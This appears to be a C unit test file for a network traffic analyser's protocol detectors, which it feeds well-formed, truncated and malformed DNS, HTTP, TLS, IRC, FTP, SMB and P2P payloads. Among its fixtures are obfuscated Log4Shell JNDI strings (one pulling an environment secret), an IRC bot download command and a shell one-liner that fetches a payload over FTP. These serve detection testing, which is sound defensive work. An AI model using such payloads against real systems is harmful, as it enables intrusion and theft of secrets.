/*
 * test_report.c - the report's protocol detectors (analysis/proto_*.c) on
 * hand-built payloads, well-formed, truncated and malformed, and the
 * range labels of geo.c.  Every payload is a heap copy of exactly its
 * length so ASan catches any overread.
 */
#include <stdlib.h>
#include <string.h>

#include "analysis/http_sniff.h"
#include "analysis/report-int.h"
#include "harness.h"

extern const struct rp_proto proto_dns, proto_ntp, proto_overnet, proto_kad, proto_btdht,
	proto_gnutella, proto_tls, proto_http, proto_smtp, proto_irc, proto_ftp, proto_smb, proto_shell;

static struct rp_col *col;

static struct rp_flow flow(uint8_t proto, uint16_t sport, uint16_t dport)
{
	return (struct rp_flow){ .proto = proto, .sport = sport, .dport = dport, .h = { 1, 2 } };
}

/* Runs detector d on a heap copy of n bytes of p in direction dir. */
static bool feed(const struct rp_proto *d, struct rp_flow *f, const void *p, size_t n, int dir)
{
	uint8_t *b = malloc(n ? n : 1);
	memcpy(b, p, n);
	/* the flow's address stands for its record index: stable while the test runs */
	struct rp_seg s = { .p = b, .n = n, .wire = n, .dir = dir, .idx = (uint32_t)((uintptr_t)f >> 4) };
	bool ok = d->inspect(col, f, &s);
	if (ok && !f->app)
		f->app = d->app;
	free(b);
	return ok;
}

/* Runs detector d on segment (seq, p[0..n)) of a TCP flow, as the collector does. */
static bool feed_seq(const struct rp_proto *d, struct rp_flow *f, const void *p, size_t n, int dir, uint32_t seq)
{
	uint8_t *b = malloc(n ? n : 1);
	memcpy(b, p, n);
	struct rp_seg s = { .p = b, .n = n, .wire = n, .dir = dir, .seq = seq,
			    .idx = (uint32_t)((uintptr_t)f >> 4) };
	bool ok = !(f->done >> dir & 1) && d->inspect(col, f, &s);
	if (ok && !f->app)
		f->app = d->app;
	free(b);
	return ok;
}

/* Ends flow f as the collector does (its parser state is released). */
static void end_flow(const struct rp_proto *d, struct rp_flow *f)
{
	if (d->flow_end)
		d->flow_end(col, f, (uint32_t)((uintptr_t)f >> 4));
}

static const char *ev(unsigned cat)
{
	static char buf[256];
	rp_ev_join(col, 1, cat, 1, buf, sizeof buf);
	return buf;
}

static void test_dns(void)
{
	TEST("dns");
	static const uint8_t q[] = { 0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0,
		3, 'w', 'w', 'w', 7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 3, 'c', 'o', 'm', 0, 0, 1, 0, 1 };
	struct rp_flow f = flow(17, 1100, 53);
	CHECK(feed(&proto_dns, &f, q, sizeof q, 0));
	CHECK_EQ_U(f.count, 1);
	CHECK_STR(ev(EV_DNS_QNAME), "www.example.com");
	/* the answer: name by pointer to offset 12, A 1.2.3.4 */
	uint8_t r[sizeof q + 16];
	memcpy(r, q, sizeof q);
	r[2] = 0x81, r[3] = 0x80, r[7] = 1;
	static const uint8_t an[] = { 0xC0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 1, 2, 3, 4 };
	memcpy(r + sizeof q, an, sizeof an);
	f = flow(17, 1100, 53);
	CHECK(feed(&proto_dns, &f, r, sizeof r, 1));
	CHECK(f.facts & RPF_DNS_ANSWER);
	uint8_t a[16] = { 1, 2, 3, 4 };
	CHECK_STR(rp_pdns_name(col, 4, a), "www.example.com");
	/* truncated: every prefix of the query either parses or is refused, never overreads */
	for (size_t n = 0; n < sizeof q; n++) {
		f = flow(17, 1100, 53);
		CHECK(!feed(&proto_dns, &f, q, n, 0));
	}
	/* malformed: a pointer to itself, a 64-byte label, no question, another port */
	uint8_t loop[] = { 0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0xC0, 12, 0, 1, 0, 1 };
	f = flow(17, 1100, 53);
	CHECK(!feed(&proto_dns, &f, loop, sizeof loop, 0));
	uint8_t big[12 + 1 + 64 + 5] = { 0, 1, 1, 0, 0, 1 };
	big[12] = 64;
	f = flow(17, 1100, 53);
	CHECK(!feed(&proto_dns, &f, big, sizeof big, 0));
	uint8_t noq[sizeof q];
	memcpy(noq, q, sizeof q);
	noq[5] = 0;
	f = flow(17, 1100, 53);
	CHECK(!feed(&proto_dns, &f, noq, sizeof noq, 0));
	f = flow(17, 1100, 54);
	CHECK(!feed(&proto_dns, &f, q, sizeof q, 0));
	/* tunnel: a 50-character label */
	uint8_t t[12 + 1 + 50 + 6 + 4 + 4] = { 0, 1, 1, 0, 0, 1 };
	size_t o = 12;
	t[o++] = 50;
	memset(t + o, 'a', 50);
	o += 50;
	memcpy(t + o, "\004pira\002te\0\0\x0a\0\x01", 12);
	f = flow(17, 1100, 53);
	CHECK(feed(&proto_dns, &f, t, sizeof t, 0));
	CHECK(f.facts & RPF_DNS_TUNNEL);
	CHECK_STR(ev(EV_DNS_DOMAIN), "pira.te");
}

static void test_ntp(void)
{
	TEST("ntp");
	uint8_t p[48] = { 0x23 };   /* v4, mode 3 (client) */
	struct rp_flow f = flow(17, 123, 123);
	CHECK(feed(&proto_ntp, &f, p, sizeof p, 0));
	CHECK(f.facts & RPF_NTP_CLIENT);
	f = flow(17, 123, 123);
	CHECK(!feed(&proto_ntp, &f, p, 47, 0));
	p[0] = 0x20;   /* mode 0 */
	f = flow(17, 123, 123);
	CHECK(!feed(&proto_ntp, &f, p, sizeof p, 0));
	p[0] = 0x23;
	f = flow(6, 123, 123);
	CHECK(!feed(&proto_ntp, &f, p, sizeof p, 0));
}

static void test_smtp(void)
{
	TEST("smtp");
	const char *c = "EHLO bot.example\r\nMAIL FROM:<a@b.c>\r\nRCPT TO:<x@y.z>\r\nRCPT TO:<w@y.z>\r\nDATA\r\n";
	struct rp_flow f = flow(6, 1200, 25);
	CHECK(feed(&proto_smtp, &f, c, strlen(c), 0));
	CHECK_STR(ev(EV_SMTP_HELO), "bot.example");
	CHECK_EQ_U(f.count, 2);
	CHECK((f.facts & (RPF_SMTP_MAIL | RPF_SMTP_DATA)) == (RPF_SMTP_MAIL | RPF_SMTP_DATA));
	f = flow(6, 1200, 25);
	CHECK(feed(&proto_smtp, &f, "220 mx ESMTP\r\n", 14, 1));
	f = flow(6, 1200, 25);
	CHECK(feed(&proto_smtp, &f, "554 go away\r\n", 13, 1));
	f = flow(6, 1200, 80);
	CHECK(!feed(&proto_smtp, &f, "220 mx ESMTP\r\n", 14, 1));
	f = flow(6, 1200, 25);
	CHECK(!feed(&proto_smtp, &f, "22", 2, 1));
	f = flow(6, 1200, 25);
	CHECK(!feed(&proto_smtp, &f, "EHL", 3, 0));
}

static void test_http(void)
{
	TEST("http");
	const char *p = "POST /gate HTTP/1.1\r\nHost: cc.example\r\nUser-Agent: Bot/1\r\n"
			"Content-Type: application/octet-stream\r\nContent-Length: 3\r\n\r\nabc";
	struct rp_flow f = flow(6, 1300, 80);
	CHECK(feed(&proto_http, &f, p, strlen(p), 0));
	CHECK((f.facts & (RPF_HTTP_POST | RPF_HTTP_BINARY)) == (RPF_HTTP_POST | RPF_HTTP_BINARY));
	CHECK_STR(ev(EV_HTTP_HOST), "cc.example");
	CHECK_STR(ev(EV_HTTP_UA), "Bot/1");
	CHECK(!(f.facts2 & RPF2_HTTP_RAWIP));
	end_flow(&proto_http, &f);
	const char *g = "GET /dl/ecard.exe?x=1 HTTP/1.0\r\n\r\n";
	f = flow(6, 1301, 80);
	CHECK(feed(&proto_http, &f, g, strlen(g), 0));
	CHECK(f.facts & RPF_EXE);
	CHECK(f.facts2 & RPF2_HTTP_RAWIP);   /* no Host */
	end_flow(&proto_http, &f);
	/* a response seen without its request, body to the end of the connection */
	const char *r = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\nMZ\x90";
	f = flow(6, 1302, 80);
	CHECK(feed(&proto_http, &f, r, strlen(r), 1));
	end_flow(&proto_http, &f);
	CHECK(f.facts & RPF_EXE);
	CHECK(f.facts2 & RPF2_HTTP_DOWNLOAD);
	f = flow(6, 1303, 80);
	CHECK(!feed(&proto_http, &f, "GET /", 5, 0));
	f = flow(6, 1304, 80);
	CHECK(!feed(&proto_http, &f, "\x16\x03\x01", 3, 0));
	/* every truncation of the request: no overread, headers only as far as present */
	for (size_t n = 0; n < strlen(p); n++) {
		f = flow(6, 1305, 80);
		feed(&proto_http, &f, p, n, 0);
		end_flow(&proto_http, &f);
	}
}

/* A 600-byte PE image: "MZ", e_lfanew = 128, "PE\0\0" there. */
static void pe_image(uint8_t *b, size_t n)
{
	memset(b, 0x90, n);
	b[0] = 'M', b[1] = 'Z';
	memset(b + 60, 0, 4);
	b[60] = 128;
	memcpy(b + 128, "PE\0\0", 4);
}

static void test_http_keepalive(void)
{
	TEST("http keep-alive: the second response is a PE split across segments");
	struct rp_flow f = flow(6, 1400, 8080);
	const char *q1 = "GET /index.html HTTP/1.1\r\nHost: 10.0.0.5:8080\r\nUser-Agent: T/1\r\n\r\n";
	const char *q2 = "GET /a/b HTTP/1.1\r\nHost: 10.0.0.5:8080\r\nUser-Agent: T/1\r\n\r\n";
	const char *r1 = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 5\r\n\r\nhello";
	const char *h2 = "HTTP/1.1 200 OK\r\nContent-Type: image/gif\r\nContent-Length: 600\r\n\r\n";
	uint8_t pe[600];
	pe_image(pe, sizeof pe);
	uint32_t qs = 1000, rs = 5000;
	CHECK(feed_seq(&proto_http, &f, q1, strlen(q1), 0, qs));
	qs += (uint32_t)strlen(q1);
	CHECK(feed_seq(&proto_http, &f, r1, strlen(r1), 1, rs));
	rs += (uint32_t)strlen(r1);
	CHECK(!(f.facts2 & RPF2_HTTP_DOWNLOAD));
	CHECK(f.facts2 & RPF2_HTTP_HTML);
	CHECK(feed_seq(&proto_http, &f, q2, strlen(q2), 0, qs));
	/* headers and the first 2 bytes, then the rest in two segments */
	uint8_t seg[200];
	size_t hl = strlen(h2);
	memcpy(seg, h2, hl);
	memcpy(seg + hl, pe, 2);
	CHECK(feed_seq(&proto_http, &f, seg, hl + 2, 1, rs));
	rs += (uint32_t)(hl + 2);
	CHECK(feed_seq(&proto_http, &f, pe + 2, 300, 1, rs));
	CHECK(feed_seq(&proto_http, &f, pe + 302, 298, 1, rs + 300));
	CHECK_EQ_U(f.count, 2);
	CHECK_EQ_U(f.count2, 2);
	CHECK(f.facts & RPF_EXE);
	CHECK(f.facts2 & RPF2_HTTP_DOWNLOAD);
	CHECK(f.facts2 & RPF2_HTTP_FILE);
	CHECK(f.facts2 & RPF2_HTTP_RAWIP);
	end_flow(&proto_http, &f);
	char buf[256];
	rp_ev_join(col, 1, EV_HTTP_DOWNLOAD, 8, buf, sizeof buf);
	CHECK(strstr(buf, "pe 600 B image/gif /a/b") != NULL);
	rp_ev_join(col, 1, EV_EXE_FILE, 8, buf, sizeof buf);
	CHECK(strstr(buf, "/a/b") != NULL && !strstr(buf, "image/gif"));
}

/* gzip of a 300-byte ELF image (7F 'E' 'L' 'F', then 296 bytes of 'A'), made with zlib. */
#include <zlib.h>
static size_t gzip_elf(uint8_t *out, size_t cap)
{
	uint8_t elf[300];
	memset(elf, 'A', sizeof elf);
	memcpy(elf, "\x7f" "ELF", 4);
	z_stream z = { 0 };
	deflateInit2(&z, 6, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY);
	z.next_in = elf;
	z.avail_in = sizeof elf;
	z.next_out = out;
	z.avail_out = (uInt)cap;
	deflate(&z, Z_FINISH);
	size_t n = cap - z.avail_out;
	deflateEnd(&z);
	return n;
}

static void test_http_chunked_gzip(void)
{
	TEST("http chunked + gzip: the decoded body is an ELF");
	uint8_t gz[512], msg[1024];
	size_t gn = gzip_elf(gz, sizeof gz);
	int h = snprintf((char *)msg, sizeof msg, "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
			 "Transfer-Encoding: chunked\r\nContent-Encoding: gzip\r\n\r\n%zx\r\n", (size_t)10);
	size_t o = (size_t)h;
	memcpy(msg + o, gz, 10), o += 10;
	o += (size_t)snprintf((char *)msg + o, sizeof msg - o, "\r\n%zx\r\n", gn - 10);
	memcpy(msg + o, gz + 10, gn - 10), o += gn - 10;
	memcpy(msg + o, "\r\n0\r\n\r\n", 7), o += 7;
	const char *q = "GET /x HTTP/1.1\r\nHost: dl.example\r\n\r\n";
	struct rp_flow f = flow(6, 1500, 80);
	CHECK(feed_seq(&proto_http, &f, q, strlen(q), 0, 1));
	CHECK(feed_seq(&proto_http, &f, msg, o / 2, 1, 100));
	CHECK(feed_seq(&proto_http, &f, msg + o / 2, o - o / 2, 1, 100 + (uint32_t)(o / 2)));
	CHECK(f.facts2 & RPF2_HTTP_ELF);
	CHECK(f.facts2 & RPF2_HTTP_DOWNLOAD);
	end_flow(&proto_http, &f);
}

static void test_http_log4shell(void)
{
	TEST("http log4shell");
	const char *q = "GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${jndi:ldap://x/a}\r\n\r\n";
	struct rp_flow f = flow(6, 1600, 8080);
	f.h[0] = 7;
	CHECK(feed_seq(&proto_http, &f, q, strlen(q), 0, 1));
	CHECK(f.facts2 & RPF2_HTTP_LOG4SHELL);
	char buf[128];
	rp_ev_join(col, 7, EV_LOG4SHELL, 1, buf, sizeof buf);
	CHECK_STR(buf, "User-Agent: ${jndi:ldap://x/a}");
	end_flow(&proto_http, &f);
	/* obfuscated spellings, and none */
	static const char *const hit[] = { "${${lower:j}ndi:ldap://x/a}", "${${::-j}${::-n}di:rmi://x}",
					   "a=%24%7Bjndi%3Adns%3A%2F%2Fx%7D", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}",
					   "${jndi:dns://x/${env:SECRET}}" };
	static const char *const miss[] = { "${java:version}", "${lower:jndi}", "$jndi:ldap", "${", "" };
	char out[80];
	for (size_t i = 0; i < sizeof hit / sizeof *hit; i++)
		CHECK(http_log4shell((const uint8_t *)hit[i], strlen(hit[i]), out, sizeof out));
	for (size_t i = 0; i < sizeof miss / sizeof *miss; i++)
		CHECK(!http_log4shell((const uint8_t *)miss[i], strlen(miss[i]), out, sizeof out));
}

static void test_http_retransmit(void)
{
	TEST("http: a retransmitted segment is not counted twice");
	const char *a = "POST /u HTTP/1.1\r\nHost: 10.1.1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
			"Content-Length: 24\r\n\r\n";
	const char *b = "user=a&pass=b&x=", *c = "12345678";
	struct rp_flow f = flow(6, 1700, 80);
	uint32_t s = 7;
	CHECK(feed_seq(&proto_http, &f, a, strlen(a), 0, s));
	CHECK(feed_seq(&proto_http, &f, a, strlen(a), 0, s));   /* retransmitted headers */
	s += (uint32_t)strlen(a);
	CHECK(feed_seq(&proto_http, &f, b, strlen(b), 0, s));
	CHECK(feed_seq(&proto_http, &f, b, strlen(b), 0, s));   /* retransmitted body */
	CHECK(feed_seq(&proto_http, &f, c, strlen(c), 0, s + (uint32_t)strlen(b)));
	CHECK_EQ_U(f.count, 1);
	CHECK(f.facts2 & RPF2_HTTP_CREDFORM);
	char buf[128];
	rp_ev_join(col, 1, EV_HTTP_UPLOAD, 4, buf, sizeof buf);
	CHECK(strstr(buf, "POST /u (24 B, credential form)") != NULL);
	/* the next request on the connection parses: the body was not taken as longer */
	const char *n = "GET /next HTTP/1.1\r\nHost: 10.1.1.1\r\n\r\n";
	CHECK(feed_seq(&proto_http, &f, n, strlen(n), 0, s + (uint32_t)(strlen(b) + strlen(c))));
	CHECK_EQ_U(f.count, 2);
	/* one early segment is held until the gap fills */
	struct rp_flow g = flow(6, 1701, 80);
	const char *q = "GET /held HTTP/1.1\r\nHost: h.example\r\n\r\n";
	size_t k = 20, ql = strlen(q);
	CHECK(feed_seq(&proto_http, &g, q, k, 0, 50));
	feed_seq(&proto_http, &g, q + k + 5, ql - k - 5, 0, 50 + (uint32_t)k + 5);
	CHECK_EQ_U(g.count, 0);
	feed_seq(&proto_http, &g, q + k, 5, 0, 50 + (uint32_t)k);
	CHECK_EQ_U(g.count, 1);
	end_flow(&proto_http, &g);
	end_flow(&proto_http, &f);
}

static void test_http_bigpost(void)
{
	TEST("http: a chunked upload past the budget is still a large request body");
	const char *h = "POST /up HTTP/1.1\r\nHost: 203.0.113.5\r\nTransfer-Encoding: chunked\r\n\r\n"
			"11170\r\n";   /* one chunk of 70000 bytes */
	struct rp_flow f = flow(6, 1900, 80);
	uint32_t seq = 1;
	CHECK(feed_seq(&proto_http, &f, h, strlen(h), 0, seq));
	seq += (uint32_t)strlen(h);
	uint8_t seg[1400];
	memset(seg, 'z', sizeof seg);
	for (int i = 0; i < 50 && !(f.done & 1); i++, seq += sizeof seg)
		feed_seq(&proto_http, &f, seg, sizeof seg, 0, seq);
	CHECK(f.done & 1);   /* the budget ended the direction */
	CHECK(f.facts2 & RPF2_HTTP_BIGPOST);
	CHECK(f.facts2 & RPF2_HTTP_RAWIP);
	end_flow(&proto_http, &f);
}

/* One request and its response (headers + body) on a fresh flow; returns the flow's facts2. */
static uint32_t http_exchange(const char *req, const char *res_head, const void *body, size_t n)
{
	struct rp_flow f = flow(6, 1800, 80);
	uint8_t msg[2048];
	size_t hl = strlen(res_head);
	memcpy(msg, res_head, hl);
	memcpy(msg + hl, body, n);
	feed_seq(&proto_http, &f, req, strlen(req), 0, 1);
	feed_seq(&proto_http, &f, msg, hl + n, 1, 1);
	end_flow(&proto_http, &f);
	return f.facts2;
}

static void test_http_download_rules(void)
{
	TEST("http download rules: packages and ordinary plug-ins are not downloads");
	uint8_t zeros[1200] = { 0 }, swf[600] = { 'C', 'W', 'S', 10 };
	/* a .deb fetched by APT: octet-stream, large, still no download */
	uint32_t f2 = http_exchange("GET /pool/main/x_1.0_amd64.deb HTTP/1.1\r\nHost: deb.example\r\n"
				    "User-Agent: Debian APT-HTTP/1.3 (1.2.32)\r\n\r\n",
				    "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
				    "Content-Length: 1200\r\n\r\n", zeros, sizeof zeros);
	CHECK(!(f2 & RPF2_HTTP_DOWNLOAD));
	/* a Debian package by content type, whoever fetches it: no download */
	f2 = http_exchange("GET /x.deb HTTP/1.1\r\nHost: deb.example\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
			   "HTTP/1.1 200 OK\r\nContent-Type: application/x-debian-package\r\n"
			   "Content-Length: 1200\r\n\r\n", zeros, sizeof zeros);
	CHECK(!(f2 & RPF2_HTTP_DOWNLOAD));
	/* an ordinary octet-stream of >= 4 KiB (declared): a download */
	f2 = http_exchange("GET /f HTTP/1.1\r\nHost: a.example\r\n\r\n",
			   "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
			   "Content-Length: 5000\r\n\r\n", zeros, sizeof zeros);
	CHECK(f2 & RPF2_HTTP_DOWNLOAD);
	/* Flash from a named site under its own type: content, not a download */
	f2 = http_exchange("GET /ad.swf HTTP/1.1\r\nHost: cdn.example\r\n\r\n",
			   "HTTP/1.1 200 OK\r\nContent-Type: application/x-shockwave-flash\r\n"
			   "Content-Length: 600\r\n\r\n", swf, sizeof swf);
	CHECK((f2 & RPF2_HTTP_PLUGIN) && !(f2 & RPF2_HTTP_DOWNLOAD));
	/* the same from a bare IP, or disguised as HTML: a download */
	f2 = http_exchange("GET /ad.swf HTTP/1.1\r\nHost: 192.0.2.9\r\n\r\n",
			   "HTTP/1.1 200 OK\r\nContent-Type: application/x-shockwave-flash\r\n"
			   "Content-Length: 600\r\n\r\n", swf, sizeof swf);
	CHECK(f2 & RPF2_HTTP_DOWNLOAD);
	f2 = http_exchange("GET /p HTTP/1.1\r\nHost: cdn.example\r\n\r\n",
			   "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 600\r\n\r\n",
			   swf, sizeof swf);
	CHECK(f2 & RPF2_HTTP_DOWNLOAD);
	/* a PE answered with 404: not a download */
	uint8_t pe[600];
	pe_image(pe, sizeof pe);
	f2 = http_exchange("GET /a.exe HTTP/1.1\r\nHost: a.example\r\n\r\n",
			   "HTTP/1.1 404 Not Found\r\nContent-Length: 600\r\n\r\n", pe, sizeof pe);
	CHECK(!(f2 & RPF2_HTTP_DOWNLOAD));
}

static void test_http_sniff(void)
{
	TEST("http sniff helpers");
	CHECK(http_host_is_ip((const uint8_t *)"10.0.0.1:8080", 13));
	CHECK(http_host_is_ip((const uint8_t *)"[::1]:80", 8));
	CHECK(!http_host_is_ip((const uint8_t *)"a.example", 9));
	CHECK(!http_host_is_ip((const uint8_t *)"1.2.3", 5));
	char big[100];
	memset(big, 'Q', sizeof big);
	memcpy(big, "sid=", 4);
	CHECK(http_cookie_blob((const uint8_t *)big, sizeof big));
	CHECK(!http_cookie_blob((const uint8_t *)"a=1; b=2", 8));
	uint8_t cls[8] = { 0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52 };
	CHECK_EQ_U(http_magic(cls, sizeof cls), HF_CLASS);
	static const uint8_t jar[] = "PK\3\4\24\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x09\0\0\0META-INF/";
	CHECK_EQ_U(http_magic(jar, sizeof jar - 1), HF_JAR);
	CHECK_EQ_U(http_magic((const uint8_t *)"CWS\x0a", 4), HF_SWF);
	CHECK_EQ_U(http_magic((const uint8_t *)"%PDF-1.4", 8), HF_PDF);
	CHECK_EQ_U(http_magic((const uint8_t *)"MZ", 1), HF_NONE);
	char names[64];
	CHECK(http_form_names((const uint8_t *)"email=a&x=1&", 12, names, sizeof names));
	CHECK_STR(names, "email,x");
	CHECK(!http_form_names((const uint8_t *)"q=cats", 6, names, sizeof names));
	const uint8_t *nm;
	static const char cd[] = "attachment; filename=\"a b.exe\"";
	size_t nl = http_disposition_name((const uint8_t *)cd, strlen(cd), &nm);
	CHECK(nl == 7 && !memcmp(nm, "a b.exe", 7));
	/* every prefix of every helper's input: no overread (ASan) */
	for (size_t n = 0; n <= sizeof jar - 1; n++) {
		uint8_t *b = malloc(n ? n : 1);
		memcpy(b, jar, n);
		http_magic(b, n);
		free(b);
	}
}

static size_t tls_hello(uint8_t *b, const char *sni)
{
	size_t nl = strlen(sni), o = 0;
	size_t ext = 9 + nl, hs = 2 + 32 + 1 + 2 + 2 + 1 + 1 + 2 + ext;
	b[o++] = 22, b[o++] = 3, b[o++] = 1, b[o++] = (uint8_t)((hs + 4) >> 8), b[o++] = (uint8_t)(hs + 4);
	b[o++] = 1, b[o++] = 0, b[o++] = (uint8_t)(hs >> 8), b[o++] = (uint8_t)hs;
	b[o++] = 3, b[o++] = 3;
	memset(b + o, 7, 32), o += 32;
	b[o++] = 0;                                  /* session id */
	b[o++] = 0, b[o++] = 2, b[o++] = 0x13, b[o++] = 1;   /* one suite */
	b[o++] = 1, b[o++] = 0;                      /* compression */
	b[o++] = (uint8_t)(ext >> 8), b[o++] = (uint8_t)ext;
	b[o++] = 0, b[o++] = 0, b[o++] = (uint8_t)((nl + 5) >> 8), b[o++] = (uint8_t)(nl + 5);
	b[o++] = (uint8_t)((nl + 3) >> 8), b[o++] = (uint8_t)(nl + 3), b[o++] = 0;
	b[o++] = (uint8_t)(nl >> 8), b[o++] = (uint8_t)nl;
	memcpy(b + o, sni, nl);
	return o + nl;
}

static void test_tls(void)
{
	TEST("tls");
	uint8_t b[256];
	size_t n = tls_hello(b, "c2.example.org");
	struct rp_flow f = flow(6, 1400, 443);
	CHECK(feed(&proto_tls, &f, b, n, 0));
	CHECK_STR(ev(EV_TLS_SNI), "c2.example.org");
	for (size_t k = 0; k < n; k++) {   /* truncated anywhere: never an overread */
		f = flow(6, 1400, 443);
		feed(&proto_tls, &f, b, k, 0);
	}
	b[1] = 2;   /* not TLS 1.x */
	f = flow(6, 1400, 443);
	CHECK(!feed(&proto_tls, &f, b, n, 0));
}

static void test_irc(void)
{
	TEST("irc");
	const char *c = "NICK bot123\r\nUSER bot 0 * :bot\r\nJOIN :#dark\r\n";
	struct rp_flow f = flow(6, 1500, 6667);
	CHECK(feed(&proto_irc, &f, c, strlen(c), 0));
	CHECK((f.facts & (RPF_IRC_REG | RPF_IRC_JOIN)) == (RPF_IRC_REG | RPF_IRC_JOIN));
	CHECK_STR(ev(EV_IRC_NICK), "bot123");
	CHECK_STR(ev(EV_IRC_CHAN), "#dark");
	const char *s = ":boss!x@y PRIVMSG #dark :.download http://x/y.exe\r\n";
	CHECK(feed(&proto_irc, &f, s, strlen(s), 1));
	CHECK(f.facts & RPF_IRC_CMD);
	CHECK_STR(ev(EV_IRC_CMD), ".download http://x/y.exe");
	/* joined before the capture started: the nick comes from the JOIN echo's prefix */
	f = flow(6, 1504, 1106);
	const char *j = ":fhhhs!fhhhs@20.20.20.2 JOIN :#dark-chan\r\n";
	CHECK(feed(&proto_irc, &f, j, strlen(j), 1));
	char nicks[256];
	rp_ev_join(col, 1, EV_IRC_NICK, 4, nicks, sizeof nicks);  /* bot123 from above, then this */
	CHECK(strstr(nicks, "fhhhs") != NULL);
	CHECK(strstr(nicks, "20.20.20.2") == NULL);
	f = flow(6, 1501, 6667);
	CHECK(!feed(&proto_irc, &f, "hello world\r\n", 13, 0));
	f = flow(6, 1502, 6667);
	CHECK(!feed(&proto_irc, &f, ":", 1, 1));
	f = flow(6, 1503, 6667);
	CHECK(!feed(&proto_irc, &f, "USER anonymous\r\n", 16, 0));   /* FTP's, not IRC's */
}

static void test_ftp_smb_shell(void)
{
	TEST("ftp");
	struct rp_flow f = flow(6, 1600, 8884);
	CHECK(feed(&proto_ftp, &f, "USER 1\r\n", 8, 0));
	CHECK(feed(&proto_ftp, &f, "RETR ssms.exe\r\n", 15, 0));
	CHECK(f.facts & RPF_EXE);
	CHECK(f.facts & RPF_FTP_LOGIN);
	f = flow(6, 1601, 8884);
	CHECK(!feed(&proto_ftp, &f, "QUIT\r\n", 6, 0));
	TEST("smb");
	uint8_t smb[4 + 32 + 8] = { 0, 0, 0, 40, 0xFF, 'S', 'M', 'B', 0x32 };
	f = flow(6, 1700, 445);
	CHECK(feed(&proto_smb, &f, smb, sizeof smb, 0));
	CHECK(f.facts & RPF_SMB_TRANS2);
	uint8_t nt[4 + 32 + 12] = { 0, 0, 0, 44, 0xFF, 'S', 'M', 'B', 0xA0 };
	nt[4 + 32] = 19;                      /* word count */
	nt[4 + 32 + 4 + 2] = 0x01;            /* total parameter count 0x10000 */
	f = flow(6, 1701, 445);
	CHECK(feed(&proto_smb, &f, nt, sizeof nt, 0));
	CHECK(f.facts & RPF_SMB_NTTRANS);
	f = flow(6, 1702, 445);
	CHECK(!feed(&proto_smb, &f, smb, 6, 0));
	f = flow(6, 1703, 80);
	CHECK(!feed(&proto_smb, &f, smb, sizeof smb, 0));
	TEST("shell");
	const char *sh = "echo open 0.0.0.0 8884 > o&echo user 1 1 >> o &ftp -n -s:o\r\n";
	f = flow(6, 1800, 1957);
	CHECK(feed(&proto_shell, &f, sh, strlen(sh), 0));
	CHECK(f.facts & RPF_SHELL);
	f = flow(6, 1800, 80);
	CHECK(!feed(&proto_shell, &f, sh, strlen(sh), 0));
}

static void test_p2p(void)
{
	TEST("overnet");
	static const uint8_t ack[] = { 0xE3, 0x0D };   /* PublicizeAck: empty */
	struct rp_flow f = flow(17, 20000, 30000);
	CHECK(feed(&proto_overnet, &f, ack, sizeof ack, 0));
	static const uint8_t bad[] = { 0xE3, 0xFF };
	f = flow(17, 20000, 30000);
	CHECK(!feed(&proto_overnet, &f, bad, sizeof bad, 0));
	f = flow(17, 20000, 30000);
	CHECK(!feed(&proto_overnet, &f, ack, 1, 0));
	static const uint8_t conn[] = { 0xE3, 0x0A, 1, 2 };   /* Connect cut short */
	f = flow(17, 20000, 30000);
	CHECK(!feed(&proto_overnet, &f, conn, sizeof conn, 0));
	TEST("kad");
	static const uint8_t kad[] = { 0xE4, 0x21, 0, 0 };
	f = flow(17, 20000, 30000);
	CHECK(feed(&proto_kad, &f, kad, sizeof kad, 0));
	f = flow(17, 20000, 30000);
	CHECK(!feed(&proto_kad, &f, kad, 1, 0));
	TEST("bittorrent_dht");
	const char *d = "d1:ad2:id20:abcdefghij0123456789e1:q4:ping1:t2:aa1:y1:qe";
	f = flow(17, 20000, 30000);
	CHECK(feed(&proto_btdht, &f, d, strlen(d), 0));
	f = flow(17, 20000, 30000);
	CHECK(!feed(&proto_btdht, &f, d, 11, 0));
	TEST("gnutella");
	f = flow(6, 20000, 6346);
	CHECK(feed(&proto_gnutella, &f, "GNUTELLA CONNECT/0.6\r\n", 22, 0));
	f = flow(6, 20000, 6346);
	CHECK(!feed(&proto_gnutella, &f, "GNUT", 4, 0));
}

static void test_ranges(void)
{
	TEST("geo ranges");
	uint8_t a[16] = { 192, 168, 1, 1 };
	CHECK_STR(geo_range(4, a), "private (RFC 1918)");
	uint8_t b[16] = { 172, 31, 255, 1 };
	CHECK_STR(geo_range(4, b), "private (RFC 1918)");
	uint8_t c[16] = { 172, 32, 0, 1 };
	CHECK(geo_range(4, c) == NULL);
	uint8_t d[16] = { 0xfd, 0 };
	CHECK_STR(geo_range(6, d), "unique local (RFC 4193)");
	CHECK(rp_kind_malicious("spam"));
	CHECK(!rp_kind_malicious("dns"));
}

static void test_evidence_bound(void)
{
	TEST("evidence bound");
	char s[32];
	for (unsigned i = 0; i < RP_EV_MAX + 100; i++) {
		int n = snprintf(s, sizeof s, "name%u", i);
		rp_ev_add(col, 9, EV_DNS_QNAME, (const uint8_t *)s, (size_t)n);
	}
	CHECK(rp_ev_total(col, 9, EV_DNS_QNAME) <= RP_EV_MAX);
	CHECK(!rp_col_oom(col));
}

int main(void)
{
	col = rp_col_new();
	test_dns();
	test_ntp();
	test_smtp();
	test_http();
	test_http_keepalive();
	test_http_chunked_gzip();
	test_http_log4shell();
	test_http_retransmit();
	test_http_sniff();
	test_http_download_rules();
	test_http_bigpost();
	test_tls();
	test_irc();
	test_ftp_smb_shell();
	test_p2p();
	test_ranges();
	test_evidence_bound();
	rp_col_free(col);
